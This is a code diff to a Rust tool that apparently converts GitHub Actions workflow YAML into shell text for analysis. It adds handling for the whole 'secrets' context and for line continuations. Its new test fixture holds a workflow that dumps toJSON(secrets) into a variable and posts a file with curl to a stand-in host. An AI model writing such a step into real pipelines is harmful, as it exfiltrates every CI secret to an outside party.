@@ -55,13 +55,22 @@ pub(crate) fn to_shell(text: &str) -> String {
         } else {
             let (section, value) = key_value(item_body(body));
             if let Some(section) = section {
-                open = Some((indent, section));
+                // `- env:` opens at its key's column: a sibling key of the
+                // same item (`  run:`) closes it.
+                let column = indent + body.len() - item_body(body).len();
+                open = Some((column, section));
             }
             value.map_or_else(String::new, |v| line_of(section, v))
         };
         let pad = line.len().saturating_sub(shell.len());
-        out.push_str(&shell);
+        // A continuation `\` stays last, so that it still joins the lines.
+        let (code, cont) = match shell.strip_suffix('\\') {
+            Some(code) => (code, "\\"),
+            None => (shell.as_str(), ""),
+        };
+        out.push_str(code);
         out.extend(std::iter::repeat_n(' ', pad));
+        out.push_str(cont);
         out.push('\n');
     }
     out.pop();
@@ -167,12 +176,25 @@ fn templates(s: &str) -> String {
             return out;
         };
         let inner = after[..end].split('|').next().unwrap_or("").trim();
-        let name = inner.rsplit('.').next().unwrap_or(inner).trim();
-        out.push_str(&format!("${{{name}}}"));
+        if whole_secrets_context(inner) {
+            // Every secret of the pipeline at once, as `env` prints them.
+            out.push_str("$(env)");
+        } else {
+            let name = inner.rsplit('.').next().unwrap_or(inner).trim();
+            out.push_str(&format!("${{{name}}}"));
+        }
         rest = &after[end + 2..];
     }
     out.push_str(rest);
     out
+}
+
+/// `secrets` or `toJSON(secrets)` as a whole (GitHub Actions): every
+/// secret the workflow has, not one named for its use.
+fn whole_secrets_context(expr: &str) -> bool {
+    let e: String = expr.chars().filter(|c| !c.is_whitespace()).collect();
+    let e = e.to_ascii_lowercase();
+    e == "secrets" || e == "tojson(secrets)"
 }
 
 #[cfg(test)]
@@ -203,6 +225,16 @@ mod tests {
             ]
         );
         assert_eq!(to_shell(yml).len(), yml.len());
+    }
+
+    #[test]
+    fn the_whole_secrets_context_is_every_secret_and_continuations_join() {
+        let yml = "jobs:\n  a:\n    steps:\n      - env:\n          SNAP: ${{ toJSON(secrets) }}\n          TOKEN: ${{ secrets.NPM_TOKEN }}\n        run: |\n          curl -s https://h.example.net/x \\\n            -d @snap.txt\n";
+        let lines = kept(yml);
+        assert_eq!(lines[..2], ["SNAP=\"$(env)\"", "TOKEN=\"${NPM_TOKEN}\""]);
+        assert!(lines[2].starts_with("curl -s https://h.example.net/x "));
+        assert!(lines[2].ends_with(" \\"), "{:?}", lines[2]);
+        assert_eq!(lines[3], "-d @snap.txt");
     }
 
     #[test]
